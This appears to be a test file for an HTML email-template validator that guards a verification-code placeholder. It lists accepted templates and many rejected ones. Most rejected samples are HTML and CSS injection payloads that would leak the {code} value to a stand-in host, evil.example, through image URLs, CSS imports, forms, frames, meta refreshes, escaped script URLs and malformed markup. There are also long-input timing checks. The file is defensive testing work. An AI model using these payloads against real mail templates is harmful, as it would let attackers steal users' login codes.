import { performance } from 'node:perf_hooks';
import { forbiddenHtml } from './html-rules';
import { layOut } from './mail-layout';

describe('forbiddenHtml', () => {
  it.each([
    'Hello',
    '<p>{code}</p>',
    '<!DOCTYPE html><html lang="en"><head><style>p > b{color:red}@media (max-width:400px){p{margin:0}}</style></head><body>{code}</body></html>',
    '<p class="a" style="color:#123456">Your code:<br/><b>{code}</b></p><hr>',
    '<a href="https://example.com/help">Help</a> <a href="mailto:a@example.com">Mail</a>',
    '<img src="https://example.com/logo.png" alt="Logo" width="80">',
    '<table role="presentation" cellpadding="0"><tr><td align="center">{app}</td></tr></table>',
    '1 &lt; 2 &amp; 3',
    '<style>p{margin:0}</style>\n<p>{code}</p>',
    '<head><title>{app}</title><meta charset="utf-8"></head>\n<body><h1>Hi</h1><p>{code}</p></body>\n',
    '<ul><li>a<ul><li>b</li></ul></li></ul><dl><dt>a</dt><dd>b</dd></dl><blockquote><p>{code}</p></blockquote>',
    '<table><caption>x</caption><thead><tr><th>a</th></tr></thead><tbody>\n<tr>\n<td><table><tr><td>{code}</td></tr></table></td></tr></tbody></table>',
    '<body><style>p{margin:0}</style><center><div><h2>{app}</h2><hr/><p>a<br>{code}</p></div></center></body>',
    layOut('Your {app} code', 'Hello {username}\n\n{code}', { language: 'en', color: '#2f6fed' }),
  ])('accepts %s', (html) => {
    expect(forbiddenHtml(html)).toBeUndefined();
  });

  it.each([
    ['a placeholder in a URL', '<img src="https://evil.example/{code}">'],
    ['a placeholder in an attribute', '<p title="{code}">x</p>'],
    ['a placeholder in a tag', '<p {code}>x</p>'],
    ['a placeholder in a style', '<style>p::after{content:"{code}"}</style>'],
    ['a placeholder in a style attribute', '<p style="background:{code}">x</p>'],
    ['an attribute without quotes', '<img src=https://evil.example/{code}>'],
    ['an attribute in single quotes', "<img src='https://evil.example/{code}'>"],
    ['ambiguous quotes', '<img a" src="https://evil.example/>{code}">'],
    ['a bracket in an attribute', '<img alt=">" src="https://evil.example/{code}">'],
    ['an unclosed tag', '<img src="https://evil.example/?{code}'],
    ['an unclosed style', '<style>@import "https://evil.example/{code}";'],
    ['a nested style', '<style><style>p{}</style>'],
    ['a stray style end', 'p{}</style>'],
    ['a script', '<script>x</script>'],
    ['an event handler', '<img src="https://example.com/x.png" onerror="x">'],
    ['a form', '<form action="https://evil.example"><input name="a"></form>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a base', '<base href="https://evil.example/">'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['a drawing', '<svg><a href="https://example.com">x</a></svg>'],
    ['a comment', '<!-- {code} -->'],
    ['a script URL', '<a href="javascript:x">x</a>'],
    ['an escaped script URL', '<a href="&#106;avascript:x">x</a>'],
    ['a data URL', '<img src="data:image/svg+xml,x">'],
    ['an unencrypted URL', '<img src="http://example.com/x.png">'],
    ['a style with a URL', '<style>p{background:url(https://evil.example)}</style>'],
    ['a font face', '<style>@font-face{font-family:x;unicode-range:U+30}</style>'],
    ['a style attribute with a URL', '<p style="background:URL (https://evil.example)">x</p>'],
    ['a style with an escaped URL', '<p style="background:\\75rl(https://evil.example)">x</p>'],
    ['a style with a URL in numeric references', '<p style="background:&#117;rl(https://evil.example)">x</p>'],
    ['a style with a URL in named references', '<p style="background:url&lpar;https://evil.example)">x</p>'],
    ['an image with srcset', '<img srcset="https://evil.example/a 1x">'],
    ['a stray bracket', '1 < 2'],
    ['a cell outside a table', '<p>https://evil.example/?c=<td>{code}</p>'],
    ['a closed cell outside a table', '<p>https://evil.example/?c=<td></td>{code}</p>'],
    ['a row outside a table', 'https://evil.example/?c=<tr></tr>{code}'],
    ['a cell outside a row', '<table><td>{code}</td></table>'],
    ['text in a table outside its cells', 'https://evil.example/?c=<table><tr>{code}</tr></table>'],
    ['a no-break space in a table outside its cells', '<table>&nbsp;<tr><td>{code}</td></tr></table>'],
    ['an element in a table outside its cells', '<table><p>{code}</p></table>'],
    ['a table directly in a table', '<table><table></table></table>'],
    ['a stray end tag', '<p>https://evil.example/?c=</h1>{code}</p>'],
    ['an end tag of a line break', '<p>a</br>{code}</p>'],
    ['a duplicate end tag', '<p>{code}</p></p>'],
    ['end tags in the wrong order', '<p><b>{code}</p></b>'],
    ['an unclosed element', '<div><p>{code}</p>'],
    ['a self-closing element', '<div/>{code}'],
    ['a page within a page', '<p>https://evil.example/?c=<html></html>{code}</p>'],
    ['a page after text', 'https://evil.example/?c=<html><body>{code}</body></html>'],
    ['a head after text', 'https://evil.example/?c=<head></head>{code}'],
    ['a body after text', 'https://evil.example/?c=<body>{code}</body>'],
    ['text after a body', '<body>https://evil.example/?c=</body>{code}'],
    ['text after a page', '<html><body>https://evil.example/?c=</body></html>{code}'],
    ['text in a head', '<head>https://evil.example/?c=</head><body>{code}</body>'],
    ['two bodies', '<body>https://evil.example/?c=</body><body>{code}</body>'],
    ['a meta after text', 'https://evil.example/?c=<meta charset="utf-8">{code}'],
    ['a title after text', 'https://evil.example/?c=<title>x y</title>{code}'],
    ['an element in a title', '<title><p>x</p></title>{code}'],
    ['an item outside a list', '<ul><li><div><li>a</li>https://evil.example/?c=</div>{code}</li></ul>'],
    ['a heading in a heading', '<h1><h2>a</h2>https://evil.example/?c=</h1>{code}'],
    ['a link in a link', '<a href="#a"><a href="#b">{code}</a></a>'],
    ['too many nested elements', `${'<div>'.repeat(600)}https://evil.example/?c=${'</div>'.repeat(600)}{code}`],
    ['a tag with a no-break space', '<p>https://evil.example/?c=<div\u00a0a>x</div></p>{code}'],
    ['a style that starts in an attribute', '<p title="<style>">https://evil.example/?c=</style>">{code}</p>'],
    ['an event handler of a style', '<style onload="x">p{margin:0}</style>'],
  ])('rejects %s', (_, html) => {
    expect(forbiddenHtml(html)).toEqual(expect.any(String));
  });

  it.each([
    '<p' + ' a'.repeat(20_000),
    '<p' + ' '.repeat(40_000),
    '<p a="'.repeat(6_000),
    '<style>'.repeat(5_000),
    '<p a' + ' ='.repeat(20_000),
  ])('checks long input in linear time: %#', (html) => {
    const start = performance.now();
    expect(forbiddenHtml(html)).toBeDefined();
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});
